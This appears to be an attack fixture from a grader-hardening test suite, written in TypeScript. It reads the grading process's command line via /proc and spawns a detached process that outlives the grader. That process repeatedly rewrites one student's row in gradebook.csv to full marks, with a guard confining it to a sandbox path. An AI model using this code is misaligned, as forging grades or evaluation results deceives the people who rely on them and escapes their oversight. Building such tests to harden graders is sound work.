// Attack: a detached process that outlives the grader. It waits until gradebook.csv has been written
// (the output folder is read from the grader's command line, or guessed), then rewrites this student's
// row to full marks, about half a second after grading has ended, and keeps watching.
import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';

/** Test harness guard (not part of the attack): touch nothing outside the test's own temp folder. */
const mine = (path: string): boolean => resolve(path).startsWith('{{SANDBOX}}/');

// Runs for up to five minutes: whenever gradebook.csv has been written and left alone for half a
// second, this student's row is set to full marks again (so a second grading run is edited too).
const later = `
const fs = require('node:fs');
const [csv, name] = process.argv.slice(1);
const started = Date.now();
const tick = () => {
  if (Date.now() - started > 5 * 60 * 1000) return;
  try {
    if (Date.now() - fs.statSync(csv).mtimeMs >= 500) {
      const text = fs.readFileSync(csv, 'utf8');
      const forged = text.replace(new RegExp('^' + name + ',.*$', 'm'), name + ',100,100,100,300,');
      if (forged !== text) fs.writeFileSync(csv, forged);
    }
  } catch {}
  setTimeout(tick, 100);
};
tick();
`;

const outs = new Set(['{{OUT}}']);
try {
  const grader = readFileSync(`/proc/${process.ppid}/cmdline`, 'utf8').split('\0');
  const at = grader.indexOf('--out');
  if (at !== -1 && grader[at + 1] !== undefined) outs.add(resolve(`/proc/${process.ppid}/cwd`, grader[at + 1] as string));
} catch {
  // no /proc, or not allowed
}
const started = process as unknown as { detachedGradebook?: boolean };
if (!started.detachedGradebook) {
  started.detachedGradebook = true;
  for (const out of outs) {
    if (!mine(out)) continue;
    try {
      spawn(process.execPath, ['-e', later, join(out, 'gradebook.csv'), '{{NAME}}'], { detached: true, stdio: 'ignore' }).unref();
    } catch {
      // not allowed to start processes
    }
  }
}

// The rest of the file is the shipped stub of lesson 01 (attacks.ts appends it).
